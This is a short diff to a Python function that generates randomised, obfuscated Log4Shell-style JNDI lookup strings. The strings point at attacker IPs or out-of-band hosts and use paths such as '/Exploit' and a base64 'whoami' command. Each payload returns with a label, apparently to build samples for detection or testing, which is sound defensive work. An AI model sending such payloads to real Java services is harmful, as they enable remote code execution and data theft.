@@ -146,7 +146,7 @@ def jndi_value(rng):
     proto = rng.choice(JNDI_PROTO)
     host = rng.choice(OAST).split("/")[0] if rng.random() < 0.6 else "%s:%d" % (rng.choice(ATTACKER_IPS), rng.choice([1389, 1099, 389, 53, 80, 443]))
     path = rng.choice(["/a", "/Exploit", "/o=tomcat", "/Basic/Command/Base64/d2hvYW1p", "/" + str(rng.randrange(10**6)), "/x", ""])
-    exfil = rng.choice(JNDI_EXFIL)
+    exfil = rng.choice(JNDI_EXFIL) if not host[0].isdigit() else ""
     target = "%s://%s%s%s" % (proto, exfil, host, path)
     if rng.random() < 0.08:
         target = "%s://127.0.0.1#%s%s" % (proto, host, path)
@@ -169,7 +169,7 @@ def jndi_value(rng):
     word = "".join(_jndi_obf_char(c, rng, rng.choice(styles)) if rng.random() < 0.8 else c for c in "jndi")
     if word == "jndi":
         word = _jndi_obf_char("j", rng, styles[0]) + "ndi"
-    sep = ":" if rng.random() < 0.6 else _jndi_obf_char(":", rng, rng.choice(styles)) if styles[0] != "date" else ":"
+    sep = ":" if rng.random() < 0.6 else _jndi_obf_char(":", rng, rng.choice(["default", "env", "sys"]))
     p2 = "".join(_jndi_obf_char(c, rng, rng.choice(styles)) if rng.random() < 0.3 else c for c in proto)
     return "${%s%s%s%s}" % (word, sep, p2, target[len(proto):]), "lookup_obfuscation", None
 
